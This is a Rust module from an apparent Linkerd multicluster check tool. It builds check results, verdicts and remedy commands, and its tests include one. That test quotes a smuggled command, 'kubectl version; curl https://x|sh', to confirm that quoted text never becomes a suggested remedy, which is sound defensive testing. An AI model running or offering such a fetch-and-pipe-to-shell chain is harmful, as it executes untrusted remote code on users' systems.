//! One check: its verdict, severity and result. Pure.

use std::collections::BTreeSet;

use hints::suggest::ClusterFlags;
use jiff::Timestamp;
use mirror_core::api::{duration::utc, metadata::ResourceId, text::one_line};

use super::topic::Topic;
use crate::{
    clusters::snapshot::FullSnapshot,
    finding::{Finding, Level, Remedy},
};

/// Address of Linkerd's hints.
const HINT_BASE: &str = "https://linkerd.io/2/checks/#";
/// Maximum number of problems that a check lists; the others are counted.
const LISTED: usize = 10;
/// How to install the extension again. It is no command to paste: one that lacks the values of the installation would
/// reset them.
pub const INSTALL_AGAIN: &str = "apply the output of `install` again, with your values";

/// The result of one check.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct CheckResult {
    /// Its place among all checks of a cluster.
    pub rank: usize,
    /// What was checked; further lines are details.
    pub description: String,
    /// The level of the result; `None` if there is no problem.
    pub level: Option<Level>,
    /// The problems, each once.
    pub findings: Vec<Finding>,
    /// Where to read about it.
    pub hint: Option<String>,
    /// Commands that fix the problems, or show their causes.
    pub actions: Vec<Remedy>,
    /// Whether a retry may succeed.
    pub retry: bool,
}

impl CheckResult {
    /// The first problems, and the number of the others, a line each.
    pub fn lines(&self, line: fn(&Finding) -> String) -> Vec<String> {
        bounded(self.findings.iter().map(line).collect())
    }

    /// All of them in one text, with the commands that they name.
    pub fn text(&self) -> String {
        let lines = self.lines(Finding::told);
        let lines = lines.iter().map(|line| one_line(line));
        lines.collect::<Vec<_>>().join("\n")
    }
}

/// What a rule has found.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// No problem.
    Pass,
    /// No problem, and this was checked.
    PassWith(Vec<String>),
    /// Nothing to check: no result.
    Skip,
    /// Unknown, or a problem that is only a warning.
    Warn(Vec<Finding>),
    /// Problems.
    Fail(Vec<Finding>),
    /// A problem that makes later checks meaningless.
    Stop(Finding),
}

impl Verdict {
    /// A failure if there are problems.
    pub fn of<P: Into<Finding>>(problems: Vec<P>) -> Self {
        if problems.is_empty() {
            Self::Pass
        } else {
            Self::Fail(problems.into_iter().map(Into::into).collect())
        }
    }

    pub fn fail(problem: impl Into<Finding>) -> Self {
        Self::Fail(vec![problem.into()])
    }

    pub fn stop(problem: impl Into<Finding>) -> Self {
        Self::Stop(problem.into())
    }

    pub fn warn(problem: impl Into<Finding>) -> Self {
        Self::Warn(vec![problem.into()])
    }

    /// The verdict on a status that no controller has updated since `time`.
    pub fn of_old_status(self, time: Timestamp) -> Self {
        let time = utc(time);
        let old = Finding::from(format!("old: no controller has reported since {time}"));
        match self {
            Self::Pass | Self::PassWith(_) => Self::Warn(vec![old]),
            Self::Warn(problems) => Self::Warn([problems, vec![old]].concat()),
            Self::Fail(problems) => Self::Fail([problems, vec![old]].concat()),
            Self::Skip | Self::Stop(_) => self,
        }
    }
}

/// The remedy of the problems of a check that name none.
#[derive(Clone, Copy)]
struct UsualFix {
    /// A command, in which `{}` stands for the target cluster.
    command: &'static str,
    /// Whether it is for the target cluster.
    is_in_target: bool,
}

/// One check.
#[derive(Clone, Copy)]
pub struct Rule {
    pub topic: Topic,
    pub description: &'static str,
    /// Anchor in Linkerd's documentation; empty for our own checks.
    anchor: &'static str,
    severity: Level,
    /// Whether a retry may succeed.
    retry: bool,
    /// Whether it judges what the controller has reported.
    pub is_reported: bool,
    /// The remedy of problems that name none.
    fix: Option<UsualFix>,
    /// A Service whose requests concern a problem, for `diagnose`.
    example: fn(&FullSnapshot) -> Option<ResourceId>,
    pub judge: fn(&FullSnapshot) -> Verdict,
}

pub const fn rule(
    topic: Topic,
    description: &'static str,
    anchor: &'static str,
    severity: Level,
    judge: fn(&FullSnapshot) -> Verdict,
) -> Rule {
    Rule {
        topic,
        description,
        anchor,
        severity,
        retry: false,
        is_reported: false,
        fix: None,
        example: |_| None,
        judge,
    }
}

impl Rule {
    pub const fn retried(self) -> Self {
        Self {
            retry: true,
            ..self
        }
    }

    pub const fn reported(self) -> Self {
        Self {
            is_reported: true,
            ..self
        }
    }

    /// The command that fixes problems that name none, or shows their causes. `{}` stands for the target cluster.
    pub const fn fixed_by(self, command: &'static str) -> Self {
        self.usually(command, false)
    }

    /// The same, for a command that is run in the target cluster.
    pub const fn fixed_in_target_by(self, command: &'static str) -> Self {
        self.usually(command, true)
    }

    const fn usually(self, command: &'static str, is_in_target: bool) -> Self {
        let fix = Some(UsualFix {
            command,
            is_in_target,
        });
        Self { fix, ..self }
    }

    /// If the check fails, `diagnose` of this Service is among the remedies.
    pub const fn diagnosed_by(self, example: fn(&FullSnapshot) -> Option<ResourceId>) -> Self {
        Self { example, ..self }
    }
}

/// The result of a check, if there is one.
pub fn result(
    rank: usize,
    rule: &Rule,
    verdict: Verdict,
    snapshot: &FullSnapshot,
) -> Option<CheckResult> {
    let mut result = outcome(rule, verdict, &snapshot.cluster.flags)?;
    result.rank = rank;
    if result.level.is_some()
        && let Some(service) = (rule.example)(snapshot)
    {
        let ResourceId { namespace, name } = &service;
        let flags = &snapshot.cluster.flags;
        let command = flags.mc("diagnose {}/{}", &[namespace, name]);
        result.actions.push(Remedy {
            cluster: None,
            command,
        });
    }
    Some(result)
}

/// The result of a check, without its rank. `topology` uses it for checks of several snapshots.
pub fn outcome(rule: &Rule, verdict: Verdict, flags: &ClusterFlags) -> Option<CheckResult> {
    let (level, details, findings) = match verdict {
        Verdict::Skip => return None,
        Verdict::Pass => (None, vec![], vec![]),
        Verdict::PassWith(details) => (None, details, vec![]),
        Verdict::Warn(findings) => (Some(Level::Warning), vec![], findings),
        Verdict::Fail(findings) => (Some(rule.severity), vec![], findings),
        Verdict::Stop(finding) => (Some(Level::Error), vec![], vec![finding]),
    };
    let mut description = rule.description.to_owned();
    for detail in bounded(details) {
        description.push_str("\n\t* ");
        description.push_str(&one_line(&detail));
    }
    // The mirror and the federated Service of one Service may have the same problem.
    let mut seen = BTreeSet::new();
    let mut findings = findings;
    findings.retain(|finding| seen.insert(finding.clone()));
    let hint = level.filter(|_| !rule.anchor.is_empty());
    Some(CheckResult {
        rank: 0,
        description,
        level,
        actions: actions(rule.fix, &findings, flags),
        findings,
        hint: hint.map(|_| format!("{HINT_BASE}{}", rule.anchor)),
        retry: rule.retry && level.is_some(),
    })
}

/// The remedies of findings, each once: the commands that they name, or else that of the check.
fn actions(usual: Option<UsualFix>, findings: &[Finding], flags: &ClusterFlags) -> Vec<Remedy> {
    let listed = findings.iter().take(LISTED);
    let listed = listed.filter(|finding| !finding.is_consequence);
    let actions = listed.flat_map(|finding| match finding.actions.as_slice() {
        [] => usual_action(usual, finding.about.as_deref(), flags)
            .into_iter()
            .collect(),
        named => named.to_vec(),
    });
    let mut seen = BTreeSet::new();
    actions
        .filter(|action| seen.insert(action.clone()))
        .collect()
}

/// The usual remedy of a check, for a problem of this target cluster.
fn usual_action(
    usual: Option<UsualFix>,
    cluster: Option<&str>,
    flags: &ClusterFlags,
) -> Option<Remedy> {
    let usual = usual?;
    if cluster.is_none() && (usual.is_in_target || usual.command.contains("{}")) {
        return None;
    }
    let values = [cluster.unwrap_or_default()];
    Some(if usual.is_in_target {
        Remedy {
            cluster: cluster.map(str::to_owned),
            command: ClusterFlags::default().of_program(usual.command, &values),
        }
    } else {
        Remedy {
            cluster: None,
            command: flags.of_program(usual.command, &values),
        }
    })
}

fn bounded(mut lines: Vec<String>) -> Vec<String> {
    if lines.len() > LISTED {
        let more = lines.len() - LISTED;
        lines.truncate(LISTED);
        lines.push(format!("… and {more} more"));
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The remedies of these problems.
    fn remedies(usual: Option<UsualFix>, problems: &[Finding]) -> Vec<String> {
        let found = actions(usual, problems, &ClusterFlags::default()).into_iter();
        let found = found.map(|fix| match fix.cluster {
            Some(cluster) => format!("in {cluster}: {}", fix.command.line()),
            None => fix.command.line().to_owned(),
        });
        found.collect()
    }

    const fn usual(command: &'static str, is_in_target: bool) -> UsualFix {
        UsualFix {
            command,
            is_in_target,
        }
    }

    #[test]
    fn remedy_is_the_command_of_the_problem_or_that_of_the_check() {
        let plain = |texts: &[&str]| -> Vec<Finding> {
            texts.iter().map(|text| Finding::from(*text)).collect()
        };
        let of = |cluster: &str, texts: &[&str]| {
            let problems = plain(texts).into_iter();
            problems
                .map(|problem| problem.of(cluster))
                .collect::<Vec<_>>()
        };
        let rotate = ClusterFlags::default().mc("rotate {}", &["east"]);
        let named = Finding::from("east: not `me`").fixed_by(&rotate);
        for (usual, problems, expected) in [
            (None, plain(&["east: broken"]), &[][..]),
            (
                Some(usual("kubectl get x", false)),
                plain(&["broken", "broken too"]),
                &["kubectl get x"],
            ),
            (
                Some(usual("kubectl get x", false)),
                vec![named],
                &["linkerd-mc rotate east"],
            ),
            (
                Some(usual("linkerd-mc status --cluster-name {}", false)),
                [
                    of("east", &["a", "b"]),
                    of("north", &["c"]),
                    plain(&["east: d"]),
                ]
                .concat(),
                &[
                    "linkerd-mc status --cluster-name east",
                    "linkerd-mc status --cluster-name north",
                ],
            ),
            (
                Some(usual("kubectl get y", true)),
                vec![
                    Finding::from("a").of("east"),
                    Finding::consequence("not checked").of("north"),
                ],
                &["in east: kubectl get y"],
            ),
        ] {
            assert_eq!(remedies(usual, &problems), expected, "{problems:?}");
        }
    }

    #[test]
    fn what_a_problem_quotes_is_no_remedy() {
        let quoted = [Finding::from("east: `kubectl version; curl https://x|sh`")];
        assert_eq!(remedies(None, &quoted), [""; 0]);
        let usual = Some(usual("kubectl get x", false));
        assert_eq!(remedies(usual, &quoted), ["kubectl get x"]);
    }

    #[test]
    fn problem_of_a_mirror_and_of_a_federated_service_is_listed_once() {
        let rule = rule(Topic::Services, "all is well", "", Level::Error, |_| {
            Verdict::Pass
        });
        let problems = [
            "east: shop/web: no",
            "east: shop/api: no",
            "east: shop/web: no",
        ];
        let verdict = Verdict::of(problems.to_vec());
        let result = outcome(&rule, verdict, &ClusterFlags::default()).unwrap();
        assert_eq!(result.text(), "east: shop/web: no\neast: shop/api: no");
    }
}
